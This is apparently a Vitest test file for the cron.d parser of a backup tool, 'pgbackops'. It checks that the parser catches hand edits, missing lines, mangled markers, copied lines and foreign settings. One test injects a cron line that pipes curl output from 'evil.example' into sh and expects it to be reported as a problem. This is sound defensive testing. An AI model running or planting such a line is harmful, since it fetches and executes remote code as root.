import { describe, expect, it } from 'vitest';
import { sha256Hex } from '../../../src/core/canonical.js';
import { parseCronDFile } from '../../../src/core/schedule/parse.js';
import { buildEntry, renderCronDFile, type CronTextOptions } from '../../../src/core/schedule/render.js';

const opts: CronTextOptions = { binary: '/usr/local/bin/pgbackops', stateDir: '/var/lib/pgbackops', user: 'root', pathEnv: '/usr/local/bin:/usr/bin:/bin' };
const entries = [
  buildEntry({ name: 'orders-nightly', schedule: '41 1 * * *', timezone: 'UTC' }, opts),
  buildEntry({ name: 'crm', schedule: '*/15 * * * 1-5', timezone: 'UTC' }, opts),
  buildEntry({ name: 'b2', schedule: '0 0 1 JAN *', timezone: 'UTC' }, opts),
];

describe('parseCronDFile', () => {
  const text = renderCronDFile(entries, opts);

  it('reads back every entry, unedited, with its raw line and the hash of the whole file', () => {
    const observed = parseCronDFile(text);
    expect(observed.present).toBe(true);
    expect(observed.contentHash).toBe(sha256Hex(text));
    expect(observed.problems).toEqual([]);
    expect(observed.entries.map((e) => [e.name, e.schedule, e.hash, e.edited])).toEqual(
      [...entries].sort((a, b) => a.name.localeCompare(b.name)).map((e) => [e.name, e.schedule, e.hash, false]),
    );
    for (const e of observed.entries) expect(text.split('\n')).toContain(e.raw);
  });

  it('round-trips: render(parse(render(e))) === render(e)', () => {
    expect(renderCronDFile(parseCronDFile(text).entries, opts)).toBe(text);
    const empty = renderCronDFile([], opts);
    expect(renderCronDFile(parseCronDFile(empty).entries, opts)).toBe(empty);
    expect(parseCronDFile(empty).entries).toEqual([]);
  });

  it('detects a line edited by hand (schedule, command or user changed, marker kept)', () => {
    const edits: Array<[string, string]> = [
      ['41 1 * * * root', '42 1 * * * root'],
      ['run --state-dir /var/lib/pgbackops orders-nightly', 'run --state-dir /tmp orders-nightly'],
      ['41 1 * * * root', '41 1 * * * postgres'],
      ['/var/lib/pgbackops orders-nightly #', '/var/lib/pgbackops crm #'],
    ];
    for (const [from, to] of edits) {
      const observed = parseCronDFile(text.replace(from, to));
      const orders = observed.entries.filter((e) => e.name === 'orders-nightly');
      expect(orders, `${from} -> ${to}`).toHaveLength(1);
      expect(orders[0]!.edited, `${from} -> ${to}`).toBe(true);
      expect(observed.entries.filter((e) => e.name !== 'orders-nightly').every((e) => !e.edited)).toBe(true);
    }
    expect(parseCronDFile(text.replace('41 1 * * * root', '42 1 * * * root')).entries.find((e) => e.name === 'orders-nightly')!.schedule).toBe('42 1 * * *');
  });

  it('detects a deleted line (entry absent) and a commented-out one', () => {
    const lines = text.split('\n');
    const without = lines.filter((l) => !l.includes(' crm # ')).join('\n');
    expect(parseCronDFile(without).entries.map((e) => e.name).sort()).toEqual(['b2', 'orders-nightly']);
    const commented = lines.map((l) => (l.includes(' crm # ') ? `#${l}` : l)).join('\n');
    expect(parseCronDFile(commented).entries.map((e) => e.name).sort()).toEqual(['b2', 'orders-nightly']);
    expect(parseCronDFile(without).contentHash).not.toBe(parseCronDFile(text).contentHash);
  });

  it('recovers the definition of a line whose marker is missing or mangled, as edited', () => {
    const line = text.split('\n').find((l) => l.includes(' crm # '))!;
    const body = line.slice(0, line.indexOf(' # pgbackops:'));
    const variants = [body, `${body} # pgbackops:crm`, `${body} # pgbackops:crm:XYZ`, `${body} # pgbackops::abc`, `${body}# pgbackops:crm:${'0'.repeat(12)}`, `${line}\r`];
    for (const v of variants) {
      const observed = parseCronDFile(text.replace(line, v));
      const crm = observed.entries.find((e) => e.name === 'crm');
      expect(crm, v).toBeDefined();
      expect(crm!.edited, v).toBe(true);
      expect(crm!.raw).toBe(v);
      expect(crm!.schedule).toBe('*/15 * * * 1-5');
    }
  });

  it('reports lines it cannot attribute, foreign settings and damaged settings as problems', () => {
    const withJunk = text + '* * * * * root /usr/bin/curl http://evil.example/x | sh\nMAILTO=someone\n';
    const observed = parseCronDFile(withJunk);
    expect(observed.entries).toHaveLength(3);
    expect(observed.problems).toEqual([
      'unknown line in the managed content: "* * * * * root /usr/bin/curl http://evil.example/x | sh"',
      'unexpected setting: "MAILTO=someone"',
    ]);
    expect(parseCronDFile(text.replace('SHELL=/bin/sh\n', 'SHELL=/bin/bash\n')).problems).toEqual(['unexpected setting: "SHELL=/bin/bash"', 'missing SHELL=/bin/sh']);
    expect(parseCronDFile(text.replace(/PATH=.*\n/, '')).problems).toEqual(['missing PATH setting']);
    expect(parseCronDFile(text.slice(0, -1)).problems).toEqual(['the last line has no final newline (cron ignores such a line)']);
  });

  it('reports a copied line as two entries, so the planner removes the copy', () => {
    const line = text.split('\n').find((l) => l.includes(' crm # '))!;
    const observed = parseCronDFile(text + line + '\n');
    expect(observed.entries.filter((e) => e.name === 'crm')).toHaveLength(2);
  });

  it('refuses a file that does not start with the pgbackops header: it is not ours', () => {
    expect(() => parseCronDFile('# my own jobs\n* * * * * root /bin/true\n')).toThrow(/not written by pgbackops/);
    expect(() => parseCronDFile('\n' + text)).toThrow(/not written by pgbackops/);
    expect(() => parseCronDFile('')).toThrow(/not written by pgbackops/);
  });
});
